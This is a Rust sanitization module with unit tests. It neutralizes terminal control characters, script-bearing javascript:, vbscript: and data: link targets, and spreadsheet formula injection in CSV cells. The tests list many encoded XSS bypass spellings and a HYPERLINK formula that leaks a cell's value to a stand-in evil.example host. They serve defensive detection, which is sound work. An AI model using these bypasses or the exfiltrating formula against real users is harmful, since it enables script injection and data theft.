//! Outputs are opened by people: in a browser, a spreadsheet or a terminal. What a crafted
//! document could turn into a weapon there is neutralized here, one function per danger:
//!
//! - [`strip_controls`]: control characters (ESC, BEL, C1 such as U+009B) are dropped from
//!   every text output, tab and newline kept. JSON escapes them and keeps them.
//! - [`unsafe_url`]: `javascript:`, `vbscript:` and `data:` targets in Markdown links and
//!   images, however a browser would still read them as that scheme.
//! - [`csv_cell`]: a CSV cell a spreadsheet would run as a formula gets a `'` prefix (OWASP).

use std::borrow::Cow;

use crate::percent::percent_decode;

/// Whether `c` goes out in text: every character but the control characters (C0, DEL, C1),
/// tab and newline excepted.
fn is_kept(c: char) -> bool {
    !c.is_control() || c == '\t' || c == '\n'
}

/// `s` without its control characters (tab and newline kept); borrowed when it has none.
pub fn strip_controls(s: &str) -> Cow<'_, str> {
    if !may_hold_controls(s) || s.chars().all(is_kept) {
        Cow::Borrowed(s)
    } else {
        Cow::Owned(s.chars().filter(|&c| is_kept(c)).collect())
    }
}

/// Whether `s` has a byte a control character may start with: one below 0x20 but tab and
/// newline, DEL, or 0xC2 (the first byte of the C1 controls, and of other characters).
/// Tested a run of bytes at a time without a branch per byte, which compilers vectorize:
/// the characters are decoded only when it says yes, and most text has none of these.
fn may_hold_controls(s: &str) -> bool {
    any_byte(s.as_bytes(), |b| {
        (b < 0x20 && b != b'\t' && b != b'\n') | (b == 0x7F) | (b == 0xC2)
    })
}

/// Whether any byte of `bytes` is one `is` says yes to, tested a run of 64 bytes at a time
/// with no branch per byte (which compilers vectorize) and the run tested once: text is
/// scanned so before anything is decoded, and most of it holds none of what is looked for.
pub(crate) fn any_byte(bytes: &[u8], is: impl Fn(u8) -> bool) -> bool {
    bytes
        .chunks(64)
        .any(|run| run.iter().fold(false, |found, &b| found | is(b)))
}

/// Image types a `data:` image may keep, as GitHub and comrak allow them (no SVG: it can hold
/// script).
const SAFE_DATA_IMAGES: [&str; 4] = ["png", "gif", "jpeg", "webp"];

/// How many rounds of percent and entity decoding are undone before the scheme is read: a
/// browser decodes once, more rounds only make the check stricter.
const DECODE_ROUNDS: usize = 4;

/// Whether a Markdown link or image (`image`) target would run script or carry a payload
/// when clicked in a browser: its scheme is `javascript:`, `vbscript:` or `data:` (a
/// `data:image/png|gif|jpeg|webp` image excepted).
///
/// The scheme is read as a browser would, and more strictly: in any letter case, with
/// whitespace, control and invisible characters anywhere in it removed, and with percent
/// escapes and HTML character references (`&#x6A;`, `&colon;`) decoded, several times over.
pub fn unsafe_url(url: &str, image: bool) -> bool {
    let mut s = url.to_owned();
    for _ in 0..DECODE_ROUNDS {
        let decoded = decode_entities(&percent_decode(&s));
        if decoded == s {
            break;
        }
        s = decoded;
    }
    let s: String = s
        .chars()
        .filter(|&c| !(c.is_whitespace() || c.is_control() || is_invisible(c)))
        .flat_map(char::to_lowercase)
        .collect();
    if s.starts_with("javascript:") || s.starts_with("vbscript:") {
        return true;
    }
    let Some(data) = s.strip_prefix("data:") else {
        return false;
    };
    let safe_image = image
        && SAFE_DATA_IMAGES.iter().any(|kind| {
            data.strip_prefix("image/")
                .and_then(|rest| rest.strip_prefix(kind))
                .is_some_and(|rest| rest.is_empty() || rest.starts_with([';', ',']))
        });
    !safe_image
}

/// Characters that show as nothing, which a reader would not see in a scheme.
fn is_invisible(c: char) -> bool {
    matches!(c, '\u{00ad}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2064}' | '\u{feff}')
}

/// Decode HTML character references as a browser does in an attribute: numeric ones with or
/// without their `;`, and the named ones that can spell a scheme's punctuation or spaces.
fn decode_entities(s: &str) -> String {
    if !s.contains('&') {
        return s.to_owned();
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        match entity(rest) {
            Some((c, len)) => {
                out.push(c);
                rest = &rest[len..];
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// The character of the reference `s` starts with (`s` starts with `&`) and its length.
fn entity(s: &str) -> Option<(char, usize)> {
    let body = &s[1..];
    if let Some(num) = body.strip_prefix('#') {
        let (digits, radix, skip) = match num.strip_prefix(['x', 'X']) {
            Some(hex) => (hex, 16, 2),
            None => (num, 10, 1),
        };
        let n = digits.chars().take_while(|c| c.is_digit(radix)).count();
        if n == 0 {
            return None;
        }
        // Leading zeros are allowed in any number; the value is capped so it cannot overflow.
        let value = digits[..n]
            .chars()
            .filter_map(|c| c.to_digit(radix))
            .fold(0u32, |v, d| {
                v.saturating_mul(radix).saturating_add(d).min(0x11_0000)
            });
        let c = char::from_u32(value).unwrap_or('\u{fffd}');
        let semicolon = usize::from(digits[n..].starts_with(';'));
        return Some((c, 1 + skip + n + semicolon));
    }
    let name_len = body.chars().take_while(char::is_ascii_alphanumeric).count();
    let name = body[..name_len].to_ascii_lowercase();
    let c = match name.as_str() {
        "colon" => ':',
        "tab" => '\t',
        "newline" => '\n',
        "nbsp" => ' ',
        "sol" => '/',
        "amp" => '&',
        "percnt" => '%',
        "num" => '#',
        _ => return None,
    };
    let semicolon = usize::from(body[name_len..].starts_with(';'));
    Some((c, 1 + name_len + semicolon))
}

/// What a CSV cell starts with when a spreadsheet would read it as a formula (OWASP "CSV
/// Injection"): `=`, `+`, `-`, `@`, tab, carriage return.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A CSV text cell made safe to open: control characters dropped ([`strip_controls`]), and
/// unless `raw`, a `'` before a cell a spreadsheet would run as a formula. A signed number
/// (`-5`, `+1,250.75`, `-3%`) and a lone dash are left as they are: a spreadsheet reads them
/// as a number or as text, never as a formula, and the `'` would reach every other reader of
/// the CSV (a financial table's negative figures).
pub fn csv_cell(s: &str, raw: bool) -> Cow<'_, str> {
    let s = strip_controls(s);
    if !raw && s.starts_with(FORMULA_STARTS) && !is_signed_number_or_dash(&s) {
        Cow::Owned(format!("'{s}"))
    } else {
        s
    }
}

/// `-5`, `+12.5`, `-1,234,567.89`, `-3%`, `-` or `--`: a sign, digits (in groups of three
/// after the first when commas separate them), a decimal part, a percent sign; or dashes only.
fn is_signed_number_or_dash(s: &str) -> bool {
    if !s.is_empty() && s.bytes().all(|b| b == b'-') {
        return true;
    }
    let Some(rest) = s.strip_prefix(['-', '+']) else {
        return false;
    };
    let rest = rest.strip_suffix('%').unwrap_or(rest);
    let (whole, fraction) = match rest.split_once('.') {
        Some((whole, fraction)) => (whole, Some(fraction)),
        None => (rest, None),
    };
    let digits = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit());
    let mut groups = whole.split(',');
    let first = groups.next().unwrap_or_default();
    let grouped = whole.contains(',');
    digits(first)
        && (!grouped || first.len() <= 3)
        && groups.all(|g| g.len() == 3 && digits(g))
        && fraction.is_none_or(digits)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strip_controls_drops_escape_bell_and_c1_but_keeps_tab_and_newline() {
        assert_eq!(strip_controls("a\u{1b}[2Jb\u{7}c"), "a[2Jbc");
        assert_eq!(strip_controls("x\u{9b}31my\u{85}\u{7f}\0"), "x31my");
        assert_eq!(strip_controls("a\tb\nc\rd"), "a\tb\ncd");
        assert!(matches!(strip_controls("plain text é"), Cow::Borrowed(_)));
        // Past the first run of bytes looked at together, and a 0xC2 that starts no control.
        let long = format!("{}\u{9b}{}", "图片 3 ".repeat(20), "£".repeat(40));
        assert_eq!(strip_controls(&long), long.replace('\u{9b}', ""));
        let pounds = "£ ".repeat(50);
        assert!(matches!(strip_controls(&pounds), Cow::Borrowed(_)));
    }

    #[test]
    fn unsafe_url_catches_script_schemes_however_they_are_spelled() {
        let nasty = [
            "javascript:alert(1)",
            "JavaScript:alert(1)",
            "JAVASCRIPT:alert(1)",
            " javascript:alert(1)",
            "\u{1}javascript:alert(1)",
            "java\tscript:alert(1)",
            "java\nscript:alert(1)",
            "java\rscript:alert(1)",
            "java\u{0}script:alert(1)",
            "java\u{200b}script:alert(1)",
            "\u{feff}javascript:alert(1)",
            "javascript\u{1b}:alert(1)",
            "javascript :alert(1)",
            "&#106;avascript:alert(1)",
            "&#x6A;avascript:alert(1)",
            "&#X6a;avascript:alert(1)",
            "&#0000106avascript:alert(1)",
            "javascript&colon;alert(1)",
            "javascript&#58;alert(1)",
            "java&Tab;script:alert(1)",
            "java&NewLine;script:alert(1)",
            "%6Aavascript:alert(1)",
            "javascript%3Aalert(1)",
            "%256Aavascript:alert(1)",
            "&amp;#106;avascript:alert(1)",
            "vbscript:msgbox(1)",
            "VBScript:msgbox(1)",
            "data:text/html,<script>alert(1)</script>",
            "DATA:text/html;base64,PHNjcmlwdD4=",
            " data:text/html,x",
            "da\tta:text/html,x",
        ];
        for url in nasty {
            assert!(unsafe_url(url, false), "link {url:?} was left live");
            assert!(unsafe_url(url, true), "image {url:?} was left live");
        }
    }

    #[test]
    fn unsafe_url_lets_ordinary_targets_and_raster_data_images_through() {
        let fine = [
            "https://example.com/a?b=c#d",
            "http://example.com/javascript:x",
            "mailto:editor@example.com",
            "#_Toc123",
            "word/media/image1.png",
            "media/javascript.png",
            "javascript.html",
            "file:///C:/docs/a.docx",
            "&",
            "&#;",
            "AT&T",
            "100%",
        ];
        for url in fine {
            assert!(!unsafe_url(url, false), "link {url:?} was neutralized");
        }
        for image in [
            "data:image/png;base64,iVBORw0KGgo=",
            "DATA:image/JPEG;base64,/9j/",
            "data:image/gif,GIF89a",
            "data:image/webp;base64,UklGRg==",
        ] {
            assert!(!unsafe_url(image, true), "image {image:?} was neutralized");
            assert!(unsafe_url(image, false), "link {image:?} was left live");
        }
        for image in [
            "data:image/svg+xml;base64,PHN2Zz4=",
            "data:image/pngx,x",
            "data:text/html,x",
        ] {
            assert!(unsafe_url(image, true), "image {image:?} was left live");
        }
    }

    #[test]
    fn csv_cell_prefixes_formula_starts_unless_raw() {
        let cases = [
            (
                "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
                true,
            ),
            ("+1+2", true),
            ("-2+3", true),
            ("-1e5", true),
            ("-5,5", true),
            ("-12,34", true),
            ("-.5", true),
            ("-5.", true),
            ("-%", true),
            ("- 5", true),
            ("-5", false),
            ("+12.5", false),
            ("-1,234,567.89", false),
            ("-3%", false),
            ("-", false),
            ("--", false),
            ("@SUM(A1)", true),
            ("\t=1", true),
            ("plain", false),
            ("a=b", false),
            ("", false),
            (" =1", false),
        ];
        for (cell, neutralized) in cases {
            let out = csv_cell(cell, false);
            if neutralized {
                assert_eq!(out, format!("'{cell}"), "{cell:?}");
            } else {
                assert_eq!(out, cell, "{cell:?}");
            }
            assert_eq!(csv_cell(cell, true), cell, "raw {cell:?}");
        }
        // A carriage return is a control character: dropped, and what follows still checked.
        assert_eq!(csv_cell("\r=1", false), "'=1");
        assert_eq!(csv_cell("a\u{1b}b", true), "ab");
    }
}
